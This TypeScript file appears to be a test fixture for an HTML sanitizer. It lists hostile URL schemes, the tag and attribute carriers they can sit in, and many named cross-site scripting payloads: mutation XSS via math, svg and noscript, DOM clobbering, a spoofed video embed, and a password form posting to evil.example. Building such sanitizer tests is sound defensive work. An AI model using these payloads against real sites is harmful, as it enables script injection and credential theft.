import { EMBED_MARK } from '../../../src/article/gate/embed-mark.ts';

/** Links as hostile pages write them: odd white space, case, entities, controls. */
export const LINKS = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  '&#1;javascript:alert(1)',
  'jAvAsCrIpT:alert(1)',
  'java&#10;script:alert(1)',
  'java&#9;script&#13;:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/alert(1)',
  'vbscript:msgbox(1)',
  'VBSCRIPT&#58;msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:application/xhtml+xml,<html/>',
  'blob:https://paper.example/x',
  'file:///etc/passwd',
  'filesystem:https://paper.example/x',
  'view-source:javascript:alert(1)',
  'intent://x#Intent;scheme=javascript;end',
];

/** Where an address can stand. */
export const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href="${address}" ping="${address}" target="_blank" referrerpolicy="unsafe-url" download>x</a>`,
  (address) => `<img src="${address}" longdesc="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<img src="/a.jpg" srcset="${address} 1x, /b.jpg 2x">`,
  (address) => `<img src="/a.jpg" srcset="/b.jpg 1x,${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img src="/a.jpg"></picture>`,
  (address) => `<video src="${address}" poster="${address}"><source src="${address}"><track src="${address}">x</video>`,
  (address) => `<audio src="${address}">x</audio>`,
  (address) => `<blockquote cite="${address}"><q cite="${address}">x</q><del cite="${address}">x</del></blockquote>`,
  (address) => `<table background="${address}"><tbody><tr><td background="${address}">x</td></tr></tbody></table>`,
  (address) =>
    `<form action="${address}"><button formaction="${address}">x</button><input type="image" src="${address}"></form>`,
  (address) => `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}">x</object>`,
  (address) =>
    `<base href="${address}"><link rel="stylesheet" href="${address}"><meta http-equiv="refresh" content="0;url=${address}">`,
  (address) =>
    `<svg><a xlink:href="${address}" href="${address}"><text>x</text></a><image href="${address}"/><use href="${address}"/></svg>`,
  (address) => `<math href="${address}" xlink:href="${address}"><mi xlink:href="${address}">x</mi></math>`,
  (address) =>
    `<figure><svg viewBox="0 0 300 200" fill="${address}"><path d="${address}" fill="url(${address})" mask="url(${address})"/><path style="fill:url(${address})"/><rect filter="url(${address})" cursor="url(${address})" x="1"/><text>x</text></svg></figure>`,
  (address) =>
    `<iframe data-embed="${EMBED_MARK}" src="${address}" data-poster="${address}" title="${address}"></iframe><a data-embed="${address}" href="/x">x</a>`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<body background="${address}">x`,
];

/** Whole attacks, each of a kind of its own. */
export const ATTACKS: Record<string, string> = {
  script: '<p>x<script>alert(1)</script></p><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script of another kind':
    '<script type="text/template"><p>x</p></script><script type="application/ld+json">{}</script>',
  'event handlers':
    '<p onclick="a()" ONMOUSEOVER=a() onfocus="a()" autofocus tabindex="1">x</p><img src="/a.jpg" onerror="a()" onload="a()">',
  'handlers on media':
    '<video src="/v.mp4" autoplay onplay="a()" controls></video><audio src="/a.mp3" autoplay oncanplay="a()"></audio><details open ontoggle="a()"><summary>x</summary>y</details>',
  'handlers without space': '<img/src="/a.jpg"/onerror="a()"/x="',
  srcdoc: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'style sheets':
    '<style>@import "//evil.example/x.css";</style><link rel="stylesheet" href="//evil.example/x.css"><p style="position:fixed;inset:0" class="evil">x</p>',
  'base and refresh':
    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><a href="x">x</a>',
  forms:
    '<form action="//evil.example/"><input name="password" type="password"><textarea>x</textarea><select><option>x</option></select><button formaction="javascript:a()">x</button></form>',
  'svg with script':
    '<svg><script>alert(1)</script><style>x</style><foreignObject><p onclick="a()">x</p><iframe src="javascript:a()"></iframe></foreignObject></svg>',
  'svg animation':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a><set attributeName="onmouseover" to="a()"/></svg>',
  'svg title': '<svg><title><style><img src="</style><img src=x onerror=a()>"></title></svg>',
  'math and mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a()&gt;">',
  'form in math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=a()>',
  annotation:
    '<math><annotation-xml encoding="text/html"><script>a()</script><p onclick="a()">x</p></annotation-xml></math>',
  'actions in math':
    '<math><maction actiontype="statusline" href="javascript:a()"><mi onclick="a()">x</mi><mtext>y<img src=x onerror=a()></mtext></maction></math>',
  'words in math':
    '<math><mtext><p onclick="a()">x<script>a()</script></p></mtext><mi><table><tr><td>x</td></tr></table></mi><ms><svg><script>a()</script></svg></ms></math>',
  'semantics in math':
    '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=a()></annotation-xml><mi>x</mi></semantics></math>',
  'a drawing that is a trap':
    '<figure><svg viewBox="0 0 300 200" onload="a()"><style>*{fill:url(//evil.example/x)}</style><defs><path id="p"/></defs><path d="M0 0" onclick="a()" style="fill:red"/><path d="M1 1"/><path d="M1 1"/><path/><path/><path/><image href="//evil.example/x.png"/><use xlink:href="//evil.example/x.svg#p"/><foreignObject><img src=x onerror=a()><iframe srcdoc="x"></iframe></foreignObject><a xlink:href="javascript:a()"><text>x<animate attributeName="x"/></text></a><title><img src=x onerror=a()></title><desc><p>x</p></desc><script>a()</script></svg></figure>',
  'an embed that is none': `<iframe data-embed="${EMBED_MARK}" src="https://evil.example/x" srcdoc="x" title="<b>x</b>"></iframe><iframe data-embed="${EMBED_MARK}" src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe><iframe data-embed="${EMBED_MARK}" src="https://user:word@player.vimeo.com/video/1"></iframe>`,
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=a()>">x</p></noscript>',
  'raw text elements':
    '<xmp><p title="</xmp><img src=x onerror=a()>"></xmp><noembed><img src=x onerror=a()></noembed><plaintext><img src=x onerror=a()>',
  template: '<template><script>a()</script></template><template shadowrootmode="open"><script>a()</script></template>',
  'comment mutation': '<!--><img src=x onerror=a()>--><p>x</p><![CDATA[<img src=x onerror=a()>]]>',
  'attribute mutation':
    '<p title="`><img src=x onerror=a()>`">x</p><a title="&quot;&gt;&lt;script&gt;a()&lt;/script&gt;" href="/x">x</a>',
  'nested tables':
    '<table><caption><table><caption><svg><title><table><caption></svg><img src=x onerror=a()></caption></table>',
  clobbering:
    '<form id="document" name="body"><input id="attributes" name="parentNode"></form><img name="getElementById" src="/a.jpg"><a id="location" name="cookie" href="/x">x</a><p id="lectern-0" name="y">x</p>',
  'frames and plugins':
    '<frameset><frame src="javascript:a()"></frameset><applet code="x">x</applet><object data="x.swf"><param name="movie" value="x">x</object><embed src="x.swf"><portal src="/x"></portal>',
  'custom elements':
    '<evil-element onconnected="a()" is="x-y"><p is="evil-p" part="x" slot="y">x</p></evil-element><button is="evil-button">x</button>',
  'popovers and commands':
    '<p popover id="x">x</p><button popovertarget="x" commandfor="x" command="show-popover">x</button><dialog open>x</dialog>',
  'editing and data':
    '<p contenteditable accesskey="x" draggable="true" data-x="y" aria-hidden="true" hidden inert nonce="n" itemprop="p">x</p>',
  'a declared document type': '<?xml-stylesheet href="javascript:a()"?><!DOCTYPE x [<!ENTITY y "z">]><p>x</p>',
};
